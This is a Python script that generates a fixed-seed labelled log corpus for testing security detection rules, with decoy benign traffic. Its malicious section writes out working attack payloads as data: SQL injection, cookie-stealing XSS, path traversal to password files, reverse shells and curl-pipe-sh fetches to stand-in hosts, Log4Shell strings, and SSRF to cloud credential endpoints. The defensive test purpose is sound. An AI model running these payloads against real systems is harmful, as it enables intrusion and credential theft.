#!/usr/bin/env python3
"""make-corpus.py: writes the labelled corpus the rules are measured on.

malicious/<category>.log: attack, probe and leak lines of one category each,
with encoded and obfuscated variants (percent, double percent, %u, mixed
case, HTML entities, SQL comments as spaces, '+' as space).
benign.log: ordinary traffic and application lines chosen to look
dangerous to a naive grep: blog posts about "union select", search terms
with "select" and "script", '..' in legitimate query values, e-mail-like
strings that are not addresses, long digit runs that are not cards.

Deterministic (fixed seed); the output is committed, and the numbers
tests/rules-corpus.sh prints come from it.  Regenerate with
    python3 tests/security/make-corpus.py tests/security
"""
import os
import random
import sys
import urllib.parse

R = random.Random(20261122)
OUT = sys.argv[1] if len(sys.argv) > 1 else "tests/security"

IPS = ["203.0.113.%d" % i for i in range(1, 60)] + ["198.51.100.%d" % i for i in range(1, 60)]
UAS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "curl/8.4.0", "python-requests/2.31.0", "Go-http-client/1.1", "okhttp/4.12.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
]


def ts(i):
    return "16/Nov/2026:%02d:%02d:%02d +0000" % (i // 3600 % 24, i // 60 % 60, i % 60)


def access(i, target, ua=None, status=200, method="GET", referer="-"):
    ua = ua or R.choice(UAS)
    return '%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s" %.3f' % (
        R.choice(IPS), ts(i), method, target, status, R.randint(100, 9000), referer, ua,
        R.random())


def app(i, level, logger, msg):
    return "2026-11-16 %02d:%02d:%02d,%03d %s [%s] %s" % (
        i // 3600 % 24, i // 60 % 60, i % 60, i % 1000, level, logger, msg)


def pct(s, safe="/?=&"):
    return urllib.parse.quote(s, safe=safe)


def pct_all(s):
    return "".join("%%%02X" % ord(c) for c in s)


def double(s):
    return pct(s).replace("%", "%25")


def mixcase(s):
    return "".join(c.upper() if R.random() < 0.5 else c.lower() for c in s)


def entities(s):
    return "".join("&#%d;" % ord(c) if c in "<>'\"()" else c for c in s)


def variants(payload):
    """The payload as a browser, a scanner and an evasive attacker send it."""
    return [
        pct(payload, safe="/?=&'()<>*;:,"),
        pct(payload),
        double(payload),
        pct(mixcase(payload)),
        pct(payload).replace("%20", "+"),
    ]


def write(name, lines):
    os.makedirs(os.path.dirname(os.path.join(OUT, name)), exist_ok=True)
    with open(os.path.join(OUT, name), "w", encoding="utf-8", newline="\n") as f:
        for line in lines:
            f.write(line + "\n")


def malicious():
    m = {}
    params = ["id", "q", "user", "page", "item", "search", "cat"]
    sqli = [
        "1' UNION SELECT username,password FROM users--",
        "1 union all select null,null,version()",
        "-1' union/**/select/**/1,2,3#",
        "x' OR '1'='1",
        "admin' or 1=1--",
        "' or 'a'='a",
        "1 AND 1=1",
        "1'; DROP TABLE users;--",
        "1; DELETE FROM orders WHERE 1=1",
        "1' AND SLEEP(5)--",
        "1) OR pg_sleep(10)--",
        "1 AND BENCHMARK(5000000,MD5(1))",
        "1'; WAITFOR DELAY '0:0:5'--",
        "1 AND extractvalue(1,concat(0x7e,version()))",
        "1' and updatexml(1,concat(0x7e,user()),1)--",
        "1 union select table_name from information_schema.tables",
        "' UNION SELECT load_file('/etc/passwd')--",
        "1 OR 2=2 --",
        "') or ('x'='x",
        "1/**/UnIoN/**/SeLeCt/**/1,2",
    ]
    m["sqli"] = [access(i, "/%s?%s=%s" % (R.choice(["search", "product", "api/items", "login"]),
                                          R.choice(params), v),
                        status=R.choice([200, 400, 500]))
                 for i, p in enumerate(sqli) for v in variants(p)[:2]]
    xss = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></ScRiPt>",
        "\"><img src=x onerror=alert(document.cookie)>",
        "<svg/onload=alert(1)>",
        "<body onload=alert('x')>",
        "javascript:alert(1)",
        "<iframe src=javascript:alert(1)>",
        "' onmouseover='alert(1)",
        "<details open ontoggle=alert(1)>",
        "<a href=\"javascript:fetch('//e.example?c='+document.cookie)\">x</a>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "<math><mtext><img src=x onerror=prompt(1)>",
        "</textarea><script>confirm`1`</script>",
        "<input autofocus onfocus=alert(1)>",
    ]
    m["xss"] = [access(i, "/%s?%s=%s" % (R.choice(["search", "comment", "profile"]),
                                         R.choice(params), v), status=R.choice([200, 400]))
                for i, p in enumerate(xss) for v in variants(p)[:2]]
    m["xss"] += [access(100 + i, "/search?q=%s" % entities(p).replace("&", "%26").replace("#", "%23"))
                 for i, p in enumerate(xss[:6])]
    lfi = [
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e%2f%2e%2e%2fetc%2fshadow",
        "....//....//etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd",
        "c:\\windows\\system32\\drivers\\etc\\hosts",
        "..%252f..%252f..%252fetc%252fpasswd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/proc/self/environ",
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/hosts",
        "..;/..;/..;/WEB-INF/web.xml",
        "%u002e%u002e/%u002e%u002e/boot.ini",
    ]
    m["lfi"] = [access(i, "/%s?%s=%s" % (R.choice(["download", "view", "static", "include"]),
                                         R.choice(["file", "path", "page", "template"]), p),
                       status=R.choice([200, 404, 403])) for i, p in enumerate(lfi)]
    m["lfi"] += [access(50 + i, "/static/%s" % p.lstrip("/"), status=404)
                 for i, p in enumerate(lfi[:4] + lfi[7:9])]
    m["lfi"] += [access(80 + i, "/view?file=%s" % double(p), status=400) for i, p in enumerate(lfi[:6])]
    m["rfi"] = [access(i, "/index.php?%s=%s" % (R.choice(["page", "inc", "file", "mod"]), u), status=200)
                for i, u in enumerate([
                    "http://evil.example/shell.txt", "https://203.0.113.9/c99.php?",
                    "ftp://198.51.100.4/x.sh", "http://evil.example/r57.txt?",
                    "HTTP://EVIL.EXAMPLE/SHELL.PHP", "http%3A%2F%2Fevil.example%2Fbd.pl",
                    "https://evil.example/x.py", "http://10.0.0.9/y.jsp"] * 2)]
    cmdi = [
        ";cat /etc/passwd", "| id", "`whoami`", "$(uname -a)", "&& wget http://e.example/x -O /tmp/x",
        "; bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "|| curl e.example/s.sh|sh",
        "; nc -e /bin/sh 198.51.100.9 4444", "127.0.0.1; ls -la", "x;rm -rf /tmp/*",
        "$(curl -s e.example)", "; powershell -enc SQBFAFgA", "a|python3 -c 'import os'",
        "1;mkfifo /tmp/f;cat /tmp/f|sh", "`cat /etc/shadow`",
    ]
    m["cmdi"] = [access(i, "/%s?%s=%s" % (R.choice(["ping", "tools/dns", "api/exec"]),
                                          R.choice(["host", "ip", "cmd", "name"]), v), status=200)
                 for i, p in enumerate(cmdi) for v in variants(p)[:2]]
    jndi = [
        "${jndi:ldap://198.51.100.9:1389/a}", "${jndi:rmi://e.example/x}",
        "${${lower:j}ndi:ldap://e.example/a}", "${${::-j}${::-n}${::-d}${::-i}:ldap://e.example/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://e.example/a}", "${jNdI:dns://e.example}",
        "${${upper:j}${upper:n}${lower:d}i:ldap://x}", "${jndi:ldaps://e.example/o}",
    ]
    m["jndi"] = [access(i, "/?x=%s" % pct(p)) for i, p in enumerate(jndi)]
    m["jndi"] += [access(20 + i, "/", ua=p) for i, p in enumerate(jndi)]
    m["jndi"] += [access(40 + i, "/login", referer=p, method="POST") for i, p in enumerate(jndi)]
    m["jndi"] += [app(60 + i, "WARN", "auth", "login failed for user %s" % p) for i, p in enumerate(jndi)]
    m["ssrf"] = [access(i, "/fetch?url=%s" % v) for i, p in enumerate([
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://100.100.100.200/latest/meta-data/", "http://[fd00:ec2::254]/latest/",
        "http://169.254.169.254/latest/user-data"]) for v in variants(p)[:4]]
    probes = ["/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/setup-config.php",
              "/phpmyadmin/", "/pma/index.php", "/xmlrpc.php", "/.aws/credentials", "/.htpasswd",
              "/cgi-bin/test.cgi", "/adminer.php", "/manager/html", "/phpinfo.php", "/.DS_Store",
              "/wp-config.php.bak", "/backup.sql", "/.svn/entries", "/actuator/env", "/.ssh/id_rsa",
              "/app/.env.production", "/solr/admin/cores", "/shell.php", "/config.php.bak"]
    m["probe"] = [access(i, p, status=404, ua=R.choice(UAS[3:5])) for i, p in enumerate(probes)]
    m["probe"] += [access(40 + i, mixcase(p), status=404) for i, p in enumerate(probes[:8])]
    scanners = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)",
                "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
                "Nmap Scripting Engine; https://nmap.org/book/nse.html", "Mozilla/5.0 (Nuclei - Open-source project)",
                "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6",
                "Fuzz Faster U Fool v2.1.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
                "Acunetix-Product", "() { :; }; echo; /bin/bash -c 'whoami' w3af.org"]
    m["scanner"] = [access(i, R.choice(["/", "/index.html", "/robots.txt", "/api/v1/users"]), ua=u, status=404)
                    for i, u in enumerate(scanners * 2)]
    users = ["alice", "bob.smith", "c.jones+news", "dev_ops", "maria.garcia"]
    doms = ["example.org", "mail.example.com", "corp.example.net", "example.co.uk"]
    m["pii"] = [app(i, "INFO", "app.mail", "sent receipt to %s@%s" % (R.choice(users), R.choice(doms)))
                for i in range(12)]
    m["pii"] += [access(20 + i, "/newsletter?email=%s%%40%s" % (R.choice(users), R.choice(doms)))
                 for i in range(8)]
    cards = ["4111111111111111", "5500 0000 0000 0004", "3400-000000-00009", "6011000000000004",
             "4012888888881881", "5105105105105100", "3782 822463 10005", "4242 4242 4242 4242"]
    m["pii"] += [app(40 + i, "ERROR", "billing", "charge failed for card %s amount 12.00" % c)
                 for i, c in enumerate(cards)]
    phones = ["+1 415 555 0132", "+44 20 7946 0958", "+49 30 901820", "+33 1 42 68 53 00",
              "+81-3-1234-5678", "+1 (212) 555-0175"]
    m["pii"] += [app(60 + i, "INFO", "app.sms", "verification code sent to %s" % p)
                 for i, p in enumerate(phones)]
    m["secret"] = [
        app(0, "DEBUG", "aws", "using key AKIAIOSFODNN7EXAMPLE for s3"),
        app(1, "DEBUG", "aws", "assumed role ASIAY34FZKBOKMUTVV7A"),
        app(2, "INFO", "http", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.dBjftJeZ4CVPmB92K27uhbUJU1p1r"),
        app(3, "DEBUG", "http", "header authorization=Bearer 9f8e7d6c5b4a39281716151413121110abcd"),
        app(4, "ERROR", "cfg", "OPENAI_API_KEY=sk-proj-abcdefghijklmnopqrstuvwxyz012345 rejected"),
        app(5, "ERROR", "pay", "stripe key sk_live_51HxQfGKa8b7c6d5e4f3g2h1 invalid"),
        app(6, "WARN", "cfg", "TRELLO_API_TOKEN = 'ATTAa1b2c3d4e5f6a7b8c9d0'"),
        app(7, "WARN", "cfg", "JWT_SECRET_KEY: dev-secret-please-change"),
        app(8, "ERROR", "ssh", "loaded -----BEGIN RSA PRIVATE KEY----- from env"),
        app(9, "ERROR", "ssh", "-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXktdjEAAAAA"),
        app(10, "INFO", "slack", "posting with token xoxb-123456789012-abcdefghij"),
    ]
    m["secret"] += [access(20 + i, "/api/%s?%s=%s" % (R.choice(["login", "export", "hook"]), k, v))
                    for i, (k, v) in enumerate([
                        ("password", "hunter2"), ("token", "abc123def456"), ("api_key", "0a1b2c3d4e5f"),
                        ("access_token", "ya29.a0AfH6SM"), ("secret", "s3cr3t-value"),
                        ("apikey", "9f8e7d6c"), ("passwd", "letmein1"), ("client_secret", "xyz987")])]
    m["secret"] += [access(40 + i, "/jwt?t=eyJhbGciOiJSUzI1NiJ9.eyJ1c2VyIjoiYm9iIn0.c2lnbmF0dXJlX2hlcmU%d" % i)
                    for i in range(4)]
    m["app"] = [app(i, R.choice(["WARNING", "ERROR"]), "ai_diy.security",
                    R.choice(["SECURITY_AUDIT path_traversal_attempt blocked for %s" % R.choice(IPS),
                              "SECURITY_AUDIT login from new device",
                              "path_traversal_attempt detected in upload name"]))
                for i in range(20)]
    return m


def benign():
    lines = []
    words = ["how to select a laptop", "union station hours", "select committee report",
             "script writing tips", "javascript tutorial", "drop shipping", "order by date",
             "where to eat", "update firmware", "delete account", "insert coin", "sleep tracker",
             "benchmark results", "cat food", "ls 400 review", "id card renewal", "echo dot",
             "wget vs curl", "bash scripting book", "python for beginners", "alert settings",
             "confirm email", "prompt engineering", "document viewer", "window blinds",
             "select * from tables explained", "union select attack explained", "or 1=1 meaning",
             "the script tag", "onload event", "curl | sh considered harmful", "etc passwd file format"]
    paths = ["/", "/index.html", "/about", "/blog", "/search", "/api/v1/items", "/api/v1/users/%d",
             "/static/js/app.%s.js", "/static/css/site.css", "/images/logo@2x.png", "/favicon.ico",
             "/products/%d", "/cart", "/checkout", "/account/settings", "/docs/v2/getting-started",
             "/robots.txt", "/sitemap.xml", "/health", "/metrics", "/assets/fonts/inter.woff2"]
    blog = ["/blog/why-union-select-is-slow", "/blog/select-vs-join", "/blog/sql-injection-explained",
            "/blog/what-is-xss-and-script-tags", "/blog/etc-passwd-and-shadow-files",
            "/blog/2026/11/drop-table-horror-stories", "/docs/sql/select", "/docs/sql/union",
            "/blog/curl-pipe-bash-is-dangerous", "/blog/log4j-jndi-postmortem",
            "/wiki/Cross-site_scripting", "/wiki/Directory_traversal_attack", "/blog/onload-vs-domcontentloaded",
            "/learn/javascript/alert-prompt-confirm", "/blog/env-files-best-practices"]
    i = 0
    for k in range(1800):
        i += 1
        r = R.random()
        if r < 0.30:
            p = R.choice(paths)
            if "%d" in p:
                p = p % R.randint(1, 99999)
            elif "%s" in p:
                p = p % "".join(R.choice("0123456789abcdef") for _ in range(8))
            lines.append(access(i, p))
        elif r < 0.50:
            q = R.choice(words)
            lines.append(access(i, "/search?q=%s&page=%d" % (R.choice([pct(q), pct(q).replace("%20", "+")]),
                                                             R.randint(1, 20))))
        elif r < 0.60:
            lines.append(access(i, R.choice(blog), referer="https://news.example.com/item?id=%d" % R.randint(1, 99999)))
        elif r < 0.70:
            lines.append(access(i, R.choice([
                "/compare/v1.2.0..v1.3.0", "/api/range?from=1..10", "/api/versions?spec=2.0..3.0",
                "/git/diff?range=main..feature", "/calendar?span=2026-11-01..2026-11-30",
                "/docs/../docs/index.html".replace("/../", "/"), "/search?q=1..100&sort=asc",
                "/api/slots?t=08:00..17:00", "/files/report.v2..final.pdf", "/api/seq?n=a..z"])))
        elif r < 0.80:
            lines.append(access(i, R.choice([
                "/api/items?select=id,name,price", "/api/v1/users?fields=email,name&order=asc",
                "/graphql?query=%7Busers%7Bid%20name%7D%7D", "/api/report?filter=status%3D%27open%27",
                "/track?event=click&label=union%20jack%20mug", "/shop?cat=scripts&sort=price",
                "/api/search?q=drop%20down%20menu", "/api/feed?format=json&callback=none",
                "/login?next=%2Faccount%2Fsettings", "/oauth/callback?code=4%2F0AX4XfWh&state=xyz",
                "/api/notify?channel=email&template=welcome", "/api/phone/format?country=US&n=4155550132",
                "/stats?year=2026&total=1234567890123", "/api/orders/1234567890123456/status",
                "/api/v1/transactions?id=9780306406157", "/images/banner@2x.png?v=3",
                "/unsubscribe?list=news&id=78123", "/api/tokenize?text=hello"])))
        elif r < 0.90:
            lines.append(access(i, R.choice(paths[:6]), ua=R.choice(UAS + [
                "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 Chrome/120.0 Mobile Safari/537.36",
                "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
                "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
                "kube-probe/1.28", "Prometheus/2.48.0", "UptimeRobot/2.0"])))
        else:
            lines.append(access(i, "/api/v1/items", method=R.choice(["POST", "PUT", "DELETE"]),
                                status=R.choice([200, 201, 204, 400, 401, 403, 404, 429, 500])))
    msgs = [
        "user 4412 selected plan premium", "union of sets computed in 12 ms", "select query took 340 ms",
        "script job nightly-backup finished", "rendered template with 3 script tags stripped",
        "cache warmup: 1200 keys", "connection from 10.0.0.5 closed", "payment id 1234567890123 settled",
        "order 4111111111111112 not found", "invoice INV-20261116-0042 created",
        "retrying request to https://api.example.com/v1/charges", "email template welcome rendered",
        "user@localhost mailbox full", "git@github.com:org/repo.git fetched", "logo@2x.png resized",
        "@media query parser updated", "contact form submitted (address withheld)",
        "phone field left empty", "version 1.2.3..1.2.4 migration done", "ranges 1..10 merged",
        "timeout after 5000 ms calling inventory", "sleep 5 s before retry", "benchmark suite passed",
        "DROP of stale partitions skipped: none", "deleted 3 expired sessions", "selected 42 rows from orders",
        "bearer token refreshed for service account", "api key rotated (value not logged)",
        "password reset requested for user 8812", "token expired for session 4a7c", "secret store unlocked",
        "jndi lookups disabled in log4j2.component.properties", "metadata cache refreshed",
        "169.254.0.0/16 link-local route ignored", "env file loaded (3 vars)", "reading config from /etc/app/app.conf",
        "could not open /var/log/app/old.log", "path ../shared normalised to /srv/shared",
        "shell completion installed", "cmd=reindex started", "ping to db ok (2 ms)",
        "rate of 12 req/s within limit", "SQL: SELECT id FROM users WHERE email = $1",
        "SQL: UPDATE orders SET status = $1 WHERE id = $2", "onload handler registered for widget",
        "alert rule cpu_high fired", "document 8812 indexed", "window size 1920x1080",
        "card ending 4242 charged 12.00", "ticket +1 for sprint 47", "score +12 after review",
        "build 2026.11.16+sha.9f8e7d ok", "dialled extension +44 disabled",
    ]
    levels = ["INFO", "INFO", "INFO", "DEBUG", "WARN", "ERROR"]
    loggers = ["app.api", "app.db", "app.worker", "billing", "mailer", "scheduler", "auth"]
    for k in range(1300):
        i += 1
        lines.append(app(i, R.choice(levels), R.choice(loggers), R.choice(msgs)))
    return lines


if __name__ == "__main__":
    total = 0
    for cat, lines in sorted(malicious().items()):
        write("malicious/%s.log" % cat, lines)
        total += len(lines)
        print("malicious/%s.log: %d lines" % (cat, len(lines)))
    b = benign()
    write("benign.log", b)
    print("malicious: %d lines; benign.log: %d lines" % (total, len(b)))
